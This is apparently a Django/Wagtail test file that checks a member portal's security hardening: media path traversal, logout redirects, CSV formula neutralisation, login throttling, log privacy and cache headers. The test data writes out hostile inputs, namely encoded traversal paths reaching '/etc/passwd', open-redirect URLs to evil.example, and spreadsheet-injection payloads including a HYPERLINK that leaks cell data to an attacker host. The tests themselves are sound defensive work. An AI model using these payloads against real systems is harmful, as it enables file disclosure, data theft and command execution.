"""Hardening gaps of issue #15 that are not about the admin's listings: development media,
member logout, caching of member responses, CSV exports, login throttling per user name,
the access log, the scheduled-publishing check."""

import pytest

from django.test import Client, override_settings

# --- Item 7: development media never serves documents -------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "geheim.pdf").write_bytes(b"%PDF-1.4 Zqmgeheim")
    (tmp_path / "images").mkdir()
    (tmp_path / "images" / "bild.png").write_bytes(b"\x89PNG public")
    return tmp_path


@override_settings(ROOT_URLCONF="tests.portal.dev_media_urls")
@pytest.mark.parametrize(
    "path",
    [
        "/media/images/%2e%2e/documents/geheim.pdf",
        "/media/images/%2E%2E/documents/geheim.pdf",
        "/media/images/../documents/geheim.pdf",
        "/media/original_images/%2e%2e/documents/geheim.pdf",
        "/media/images/%252e%252e/documents/geheim.pdf",
        "/media/images/..%2fdocuments/geheim.pdf",
        "/media/images/..%5cdocuments%5cgeheim.pdf",
        "/media/documents/geheim.pdf",
        "/media/%2e%2e/%2e%2e/etc/passwd",
    ],
)
def test_development_media_never_serves_documents(media, db, path):
    response = Client().get(path)
    assert response.status_code == 404, path
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert b"Zqmgeheim" not in body


@override_settings(ROOT_URLCONF="tests.portal.dev_media_urls")
def test_development_media_serves_images(media, db):
    response = Client().get("/media/images/bild.png")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"\x89PNG public"


# --- Item 8: member logout ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "data, target",
    [
        ({}, "/de/"),
        ({"next": "https://evil.example/"}, "/de/"),
        ({"next": "//evil.example/x"}, "/de/"),
        ({"next": "/de/gremien/"}, "/de/gremien/"),
    ],
)
def test_member_logout_redirects_and_never_fails(users, home, data, target):
    client = Client(enforce_csrf_checks=True)
    client.force_login(users["member_a"])
    client.get("/de/anmelden/")
    data = {**data, "csrfmiddlewaretoken": client.cookies["csrftoken"].value}
    response = client.post("/de/abmelden/", data)
    assert response.status_code == 302
    assert response["Location"] == target
    assert "_auth_user_id" not in client.session


def test_logout_in_arabic_returns_to_the_arabic_home(users, home):
    client = Client()
    client.force_login(users["member_a"])
    response = client.post("/ar/abmelden/")
    assert response.status_code == 302 and response["Location"] == "/ar/"


# --- Item 14: responses for members are private -------------------------------------------------


def test_member_responses_are_private(users, workspace_a, settings):
    settings.PORTAL_PAGE_CACHE_SECONDS = 300
    member = Client()
    member.force_login(users["member_a"])
    for url in ["/de/gremien/", "/de/suche/?q=Lenkungsgruppe", "/de/"]:
        response = member.get(url)
        assert response.status_code == 200, url
        assert "private" in response.get("Cache-Control", ""), url
    anonymous = Client().get("/de/gremien/")
    assert "private" not in anonymous.get("Cache-Control", "")


# --- Item 4: deleting pages ---------------------------------------------------------------------


@pytest.fixture
def big_page(content_page, settings):
    from home.factories import ContentPageFactory

    settings.WAGTAILADMIN_UNSAFE_PAGE_DELETION_LIMIT = 3
    for number in range(3):
        ContentPageFactory(parent=content_page, title=f"Kind {number}", slug=f"kind-{number}")
    return content_page


def _csrf_client(user):
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    client.get("/admin/")
    return client, client.cookies["csrftoken"].value


def test_deleting_many_pages_needs_the_site_name_server_side(big_page, users, settings):
    from wagtail.models import Page

    client, token = _csrf_client(users["admin"])
    url = f"/admin/pages/{big_page.pk}/delete/"
    for data in [{}, {"confirm_site_name": ""}, {"confirm_site_name": "falsch"}]:
        response = client.post(url, {**data, "csrfmiddlewaretoken": token})
        assert response.status_code == 302 and response["Location"] == url, data
        assert Page.objects.filter(pk=big_page.pk).exists(), data
    response = client.post(
        url, {"confirm_site_name": settings.WAGTAIL_SITE_NAME, "csrfmiddlewaretoken": token}
    )
    assert not Page.objects.filter(pk=big_page.pk).exists()


def test_a_page_locked_by_someone_else_is_not_deleted(content_page, users):
    from django.utils import timezone

    from wagtail.models import Page

    content_page.locked, content_page.locked_by = True, users["editor"]
    content_page.locked_at = timezone.now()
    content_page.save()
    client, token = _csrf_client(users["moderator"])
    url = f"/admin/pages/{content_page.pk}/delete/"
    client.post(url, {"csrfmiddlewaretoken": token})
    assert Page.objects.filter(pk=content_page.pk).exists()
    # The one who locked it may delete it (positive control), given the permission.
    client, token = _csrf_client(users["admin"])
    content_page.locked_by = users["admin"]
    content_page.save()
    client.post(url, {"csrfmiddlewaretoken": token})
    assert not Page.objects.filter(pk=content_page.pk).exists()


# --- Item 13: CSV exports neutralise formulas ---------------------------------------------------


def test_login_report_csv_neutralises_formulas(home, users):
    from django.contrib.auth import get_user_model

    evil = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
    Client().post("/de/anmelden/", {"username": evil, "password": "falsch"})
    Client().post("/de/anmelden/", {"username": "+cmd|' /C calc'!A0", "password": "x"})
    root = get_user_model().objects.create_superuser("root", "root@example.org", "pw-1234567")
    client = Client()
    client.force_login(root)
    response = client.get("/admin/reports/security/?export=csv")
    body = b"".join(response.streaming_content).decode()
    assert "HYPERLINK" in body  # the row is there (positive control) …
    for line in body.splitlines():
        for cell in next(__import__("csv").reader([line])):
            assert not cell.startswith(("=", "+", "@")), line  # … but never as a formula


def test_csv_safe_keeps_numbers():
    from portal.security.sanitize import csv_safe

    assert csv_safe("-12.5") == "-12.5"
    assert csv_safe("-x") == "'-x"
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe(7) == 7


# --- Item 10: PostgreSQL down → the 503 within a second (production settings, real psycopg) ----

_TIMED = (
    "import django, json, time; django.setup();"
    "from django.test import Client;"
    "c = Client(raise_request_exception=False, HTTP_HOST='kim.example.org');"
    "c.get('/de/', secure=True);"  # the first request of a process also imports and loads
    "[print(u, r.status_code, round(time.monotonic() - t, 2))"
    " for u in ['/de/', '/healthz', '/de/gremien/'] for t in [time.monotonic()]"
    " for r in [c.get(u, secure=True)]]"
)


def _timed_requests(database_url):
    from tests.portal.test_deploy_settings import PRODUCTION
    from tests.portal.test_health import _run_portal

    result = _run_portal(_TIMED, **{**PRODUCTION, "DATABASE_URL": database_url})
    lines = [line.split() for line in result.stdout.strip().splitlines()]
    assert len(lines) == 3, result.stderr[-3000:]
    return {url: (int(status), float(seconds)) for url, status, seconds in lines}


def test_database_down_answers_503_within_a_second():
    # Port 1 refuses at once: without a short pool timeout each request waited 10 s.
    answers = _timed_requests("postgres://root@127.0.0.1:1/kim_down")
    for url, (status, seconds) in answers.items():
        assert status == 503, url
        assert seconds < 1.2, (url, seconds)


def test_database_up_is_reached_through_the_same_settings():
    """Positive control against the real PostgreSQL on 127.0.0.1:5432 (role root)."""
    from tests.portal.test_deploy_settings import PRODUCTION
    from tests.portal.test_health import _run_portal

    code = (
        "import django; django.setup();"
        "from django.db import connection;"
        "print(connection.settings_dict['OPTIONS']['pool']['timeout'],"
        " connection.settings_dict['OPTIONS']['connect_timeout']);"
        "c = connection.cursor(); c.execute('SELECT 1'); print(c.fetchone()[0])"
    )
    result = _run_portal(
        code, **{**PRODUCTION, "DATABASE_URL": "postgres://root@127.0.0.1:5432/postgres"}
    )
    assert result.stdout.split() == ["0.5", "2", "1"], result.stderr[-2000:]


# --- Item 12: the access log keeps no query strings and no addresses ---------------------------


def test_gunicorn_access_log_has_no_query_string_or_address():
    import datetime
    import runpy
    from types import SimpleNamespace

    from gunicorn.config import Config
    from gunicorn.glogging import Logger

    conf = runpy.run_path("portal/gunicorn.conf.py")
    config = Config()
    config.set("access_log_format", conf["access_log_format"])
    logger = Logger(config)
    request = SimpleNamespace(
        method="GET",
        path="/de/beratung/",
        query="q=schwangerschaft+hiv",
        version=(1, 1),
        headers=[("USER-AGENT", "test")],
        uri="/de/beratung/?q=schwangerschaft+hiv",
    )
    response = SimpleNamespace(status="200 OK", response_length=10, sent=10, headers=[])
    environ = {
        "REMOTE_ADDR": "203.0.113.7",
        "RAW_URI": request.uri,
        "REQUEST_METHOD": "GET",
        "QUERY_STRING": request.query,
        "PATH_INFO": request.path,
        "SERVER_PROTOCOL": "HTTP/1.1",
    }
    atoms = logger.atoms(response, request, environ, datetime.timedelta(milliseconds=12))
    line = conf["access_log_format"] % atoms
    assert "/de/beratung/" in line
    assert "schwangerschaft" not in line and "203.0.113.7" not in line


# --- Item 15: is publish_scheduled still running? ---------------------------------------------


PANEL = 'id="scheduled-publishing-heading"'


def test_scheduled_publishing_age_is_reported(home, settings, tmp_path, users):
    import os
    import time

    from django.core.management import call_command

    settings.PORTAL_HEARTBEAT_DIR = tmp_path
    settings.PORTAL_SCHEDULED_MAX_AGE = 1800
    client = Client()
    admin = Client()
    admin.force_login(users["admin"])
    editor = Client()
    editor.force_login(users["editor"])

    never = client.get("/healthz/scheduled")
    assert never.status_code == 503 and never.json()["age_seconds"] is None
    assert PANEL in admin.get("/admin/").content.decode()
    assert PANEL not in editor.get("/admin/").content.decode()

    call_command("publish_scheduled")
    fresh = client.get("/healthz/scheduled")
    assert fresh.status_code == 200 and fresh.json()["age_seconds"] < 60
    assert PANEL not in admin.get("/admin/").content.decode()

    old = int(time.time()) - 3600  # whole seconds: "%.0f" could round up and read as 3599
    os.utime(tmp_path / "publish_scheduled", (old, old))
    (tmp_path / "publish_scheduled").write_text(f"{old}\n")
    stale = client.get("/healthz/scheduled")
    assert stale.status_code == 503 and stale.json()["age_seconds"] >= 3600
    html = admin.get("/admin/").content.decode()
    assert PANEL in html and " 60 " in html.split(PANEL, 1)[1][:600]


# --- Item 11: a cap per user name, over all addresses --------------------------------------------


@pytest.mark.parametrize("login_url", ["/de/anmelden/", "/admin/login/"])
def test_rotating_addresses_does_not_multiply_guesses(home, login_url):
    from tests.conftest import make_user

    make_user("mitglied")
    for number in range(5):  # one wrong guess from each of five addresses
        Client(REMOTE_ADDR=f"198.51.100.{number + 1}").post(
            login_url, {"username": "mitglied", "password": f"falsch-{number}"}
        )
    fresh_address = Client(REMOTE_ADDR="198.51.100.99")
    response = fresh_address.post(login_url, {"username": "mitglied", "password": "pw-1234567"})
    assert response.status_code == 429
    # Another account is unaffected, also from those addresses (positive control).
    make_user("andere")
    other = Client(REMOTE_ADDR="198.51.100.1").post(
        login_url, {"username": "andere", "password": "pw-1234567"}
    )
    assert other.status_code == 302


# --- Item 9: previews may be framed by the admin; real pages never ------------------------------


def test_preview_may_be_framed_by_the_admin_only(content_page, users):
    from wagtail.models import Page

    page = Page.objects.get(pk=content_page.pk).specific
    page.save_revision()
    admin = Client()
    admin.force_login(users["admin"])
    preview = admin.get(f"/admin/pages/{page.pk}/view_draft/")
    assert preview.status_code == 200
    assert "frame-ancestors 'self'" in preview["Content-Security-Policy"]
    assert preview["X-Frame-Options"] == "SAMEORIGIN"
    public = Client().get(page.url)
    assert "frame-ancestors 'none'" in public["Content-Security-Policy"]
    assert public["X-Frame-Options"] == "DENY"


# --- Item 5: purging revisions keeps live ones -------------------------------------------------


def test_purge_revisions_keeps_live_latest_and_moderated(content_page):
    from django.core.management import call_command

    from wagtail.models import Revision

    old = content_page.save_revision()  # neither live nor latest: may go
    content_page.title = "Über KIM (live)"
    live = content_page.save_revision()
    live.publish()
    content_page.title = "Über KIM (Entwurf)"
    draft = content_page.save_revision()
    approved = content_page.save_revision()
    approved.approved_go_live_at = draft.created_at
    approved.save()
    content_page.title = "Über KIM (neuester Entwurf)"
    latest = content_page.save_revision()

    call_command("purge_revisions")

    remaining = set(
        Revision.objects.filter(object_id=str(content_page.pk)).values_list("pk", flat=True)
    )
    assert {live.pk, approved.pk, latest.pk} <= remaining
    assert old.pk not in remaining and draft.pk not in remaining  # positive control
    content_page.refresh_from_db()
    assert content_page.live_revision_id == live.pk
